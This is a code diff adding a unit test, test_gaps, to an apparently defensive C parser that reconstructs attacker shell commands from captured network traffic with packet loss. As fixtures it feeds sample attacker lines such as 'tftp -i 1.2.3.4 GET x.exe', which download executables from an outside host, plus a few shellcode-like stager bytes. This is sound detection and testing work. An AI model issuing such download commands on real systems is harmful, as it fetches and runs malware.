@@ -194,6 +194,40 @@ static void test_stager_then_banner(void)
 	ws_shell_free(s);
 }
 
+/*
+ * Holes (capture loss the victim ACKed): the line they cut is dropped up to
+ * its end, never joined across; a hole inside an undecided side's binary
+ * stage cuts no typed line (the stager reads the stage whole).
+ */
+static void test_gaps(void)
+{
+	struct ws_shell *s = ws_shell_new();
+	struct ws_shell_stats st;
+	struct log l = {.n = 0};
+	static const uint8_t stage[] = {0xf0, 0x00, 0x00, 0x00, 0xfc, 0xe8, 0x89, 0x00};
+
+	feed(s, WS_SIDE_SERVER, BANNER, &l);
+	feed(s, WS_SIDE_CLIENT, "tftp -i 1.2.3.4 GET ", &l);
+	ws_shell_gap(s, WS_SIDE_CLIENT);
+	feed(s, WS_SIDE_CLIENT, "x.exe\ntftp -i 1.2.3.4 GET ok.exe\n", &l);
+	ws_shell_gap(s, WS_SIDE_CLIENT);	/* at a line start: the next line is cut */
+	feed(s, WS_SIDE_CLIENT, "xe\ntftp -i 1.2.3.4 GET ok2.exe\n", &l);
+	ws_shell_gap(s, WS_SIDE_SERVER);	/* the victim's output: nothing to cut */
+	CHECK(strcmp(l.text, "get ok.exe@1.2.3.4; get ok2.exe@1.2.3.4") == 0, "%s", l.text);
+	ws_shell_get_stats(s, &st);
+	CHECK(st.holed == 1, "one line with bytes cut (%llu)", (unsigned long long)st.holed);
+	ws_shell_free(s);
+
+	s = ws_shell_new();
+	l = (struct log){.n = 0};
+	ws_shell_feed(s, WS_SIDE_SERVER, stage, sizeof(stage), &ts0, on_event, &l);
+	ws_shell_gap(s, WS_SIDE_SERVER);	/* the stage's tail was not kept */
+	feed(s, WS_SIDE_CLIENT, BANNER, &l);
+	feed(s, WS_SIDE_SERVER, "tftp -i 1.2.3.4 GET stage3.exe\n", &l);
+	CHECK(strcmp(l.text, "get stage3.exe@1.2.3.4") == 0, "after a stage's hole: %s", l.text);
+	ws_shell_free(s);
+}
+
 /* A bot typing before the banner arrives: its unfinished line is kept. */
 static void test_typing_before_banner(void)
 {
@@ -562,6 +596,7 @@ int main(void)
 	test_attacker_only();
 	test_binary_undecided();
 	test_stager_then_banner();
+	test_gaps();
 	test_typing_before_banner();
 	test_segments_and_env();
 	test_ftp_fields();
